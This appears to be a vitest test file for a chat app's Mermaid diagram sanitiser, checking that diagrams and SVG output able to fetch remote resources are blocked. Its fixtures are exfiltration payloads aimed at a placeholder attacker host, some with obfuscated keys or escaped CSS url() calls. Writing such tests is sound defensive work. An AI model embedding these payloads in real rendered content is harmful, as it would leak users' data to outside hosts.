// Diagrams in chat answers never load a remote resource (issue 28, row 7): the text that could make mermaid
// fetch something while drawing is not drawn, and a drawing that would fetch once shown is not shown.
import { DOMParser } from "linkedom";
import { beforeAll, describe, expect, it } from "vitest";
import { diagramMayFetch, drawingMayFetch } from "./mermaid-resources";

const ATTACK = "https://attacker.example/?q=secret";

describe("diagram text", () => {
  it.each([
    ["an image node", `flowchart LR\n  A@{ img: "${ATTACK}", label: "图" }\n  A --> B`],
    ["an image node, quoted key", `flowchart LR\n  A@{ "img": "${ATTACK}" }`],
    ["an image node, escaped key", `flowchart LR\n  A@{ "i\\x6dg": "${ATTACK}" }`],
    ["a participant's icon", `sequenceDiagram\n  participant A\n  properties A: {"icon": "${ATTACK}"}\n  A->>B: hi`],
    ["a classDef with url()", `flowchart LR\n  A:::c --> B\n  classDef c background:url(${ATTACK})`],
    ["a style with an escaped url()", `flowchart LR\n  A --> B\n  style A background:u\\72l(${ATTACK})`],
    ["themeCSS importing", `%%{init: {"themeCSS": "@import '${ATTACK}';"}}%%\nflowchart LR\n  A --> B`],
    ["an image-set", `flowchart LR\n  A --> B\n  style A background-image:image-set("${ATTACK}" 1x)`],
  ])("%s is not drawn", (_name, code) => {
    expect(diagramMayFetch(code)).toBe(true);
  });

  it.each([
    ["a flowchart", "flowchart LR\n  A[提问] --> B{检索}\n  B --> C[回答]"],
    ["a sequence", "sequenceDiagram\n  用户->>助手: 你好\n  助手-->>用户: 你好！"],
    ["a styled node and a link", 'flowchart LR\n  A --> B\n  style A fill:#f9f,stroke:#333\n  click B href "https://example.com/" _blank'],
  ])("%s is drawn", (_name, code) => {
    expect(diagramMayFetch(code)).toBe(false);
  });
});

describe("the drawing", () => {
  beforeAll(() => {
    globalThis.DOMParser ??= DOMParser as unknown as typeof globalThis.DOMParser;
  });

  const svg = (inner: string) => `<svg xmlns="http://www.w3.org/2000/svg" id="m1"><style>#m1 .node rect{fill:#fff}</style>${inner}</svg>`;

  it.each([
    ["an <image>", `<g><image href="${ATTACK}" width="10" height="10"/></g>`],
    ["an <image> by xlink:href", `<image xlink:href="${ATTACK}"/>`],
    ["a <use> of another document", `<use href="${ATTACK}#a"/>`],
    ["an HTML <img> in a label", `<foreignObject><div><img src="${ATTACK}"></div></foreignObject>`],
    ["a style attribute with url()", `<rect style="fill:url(${ATTACK})"/>`],
    ["a <style> with url()", `<style>.c span{background:url('${ATTACK}')}</style>`],
    ["a <style> with @import", `<style>@import "${ATTACK}";</style>`],
  ])("with %s is not shown", (_name, inner) => {
    expect(drawingMayFetch(svg(inner))).toBe(true);
  });

  it("mermaid's own references to its markers and gradients are fine", () => {
    expect(drawingMayFetch(svg('<defs><marker id="m1_arrow"/></defs><path marker-end="url(#m1_arrow)" style="fill:url( \'#g\')"/><use href="#m1_arrow"/><a xlink:href="https://example.com/"><text>链接</text></a>'))).toBe(false);
  });
});
